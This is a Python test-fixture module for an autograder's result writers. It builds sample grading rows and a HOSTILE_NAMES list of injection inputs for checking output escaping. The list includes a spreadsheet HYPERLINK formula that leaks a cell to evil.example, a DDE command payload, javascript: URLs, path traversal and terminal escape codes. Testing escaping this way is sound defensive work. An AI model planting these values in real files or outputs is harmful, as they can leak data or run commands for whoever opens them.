"""Result rows (the result.json form) built from the grader's own records, for tests of the writers.

The writers (gradebook, JUnit, Markdown, Gradescope, PrairieLearn, LMS files) are pure
functions of these rows, so most of their tests need no kernel.
"""

from grader.model import CheckResult, ExerciseResult, GradeError, StageTimes, SubmissionResult

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "javascript:alert(1)",
    "..",
    "../../etc",
    "//evil.example/x",
    "bell\x07and\x1b[31mred\x1b[0m\x1b]0;pwned\x07title\x9b2J",
    "pipe|and\nnewline [link](javascript:alert(1)) *bold* <b>html</b>",
    "right\u202eto-left",
    "nul\x00and\x0bvt",
]


def check(check_id: str, status: str, points: float, seconds: float = 0.25, **extra) -> CheckResult:
    score = points if status == "passed" else 0.0
    return CheckResult(id=check_id, title=f"{check_id} title", status=status, score=score, max_score=points,
                       message=extra.pop("message", f"{check_id}: {status}"), seconds=seconds, **extra)


def submission_row(name: str, errors: list[GradeError] = (), statuses=("passed", "failed", "errored"),
                   source: str = "", seconds: float = 3.5) -> dict:
    """Two exercises: ex1 with two checks (2 and 3 points), ex2 with one (1 point); ``statuses`` in that order."""
    ex1 = [check("ex1.a", statuses[0], 2.0), check("ex1.b", statuses[1], 3.0, diagnosis="labels in {0,1}",
                                                     hint="use -1/+1")]
    ex2 = [check("ex2.a", statuses[2], 1.0, seconds=1.5)]
    exercises = [ExerciseResult("ex1", "Exercise 1", sum(c.score for c in ex1), 5.0, ex1, [], []),
                 ExerciseResult("ex2", "Exercise 2", sum(c.score for c in ex2), 1.0, ex2, [], [])]
    result = SubmissionResult(submission=name, assignment="attention_pooling",
                              score=sum(e.score for e in exercises), max_score=6.0, exercises=exercises,
                              errors=list(errors), seed_kind="secret", sandboxed=True, timing=StageTimes(seconds=seconds),
                              source=source or f"/class/{name}.ipynb")
    return result.to_json()


def cells_all_failed(count: int = 5) -> list[GradeError]:
    """What a notebook whose first cell fails on an import looks like: every later cell fails too."""
    return [GradeError("cell-error", f"Cell {i + 1} raised ModuleNotFoundError: No module named 'torchh'"
                       if i == 0 else f"Cell {i + 1} raised NameError: name 'torch' is not defined", cell=i,
                       source_head="import torchh" if i == 0 else "torch.zeros(3)", seconds=0.01)
            for i in range(count)]
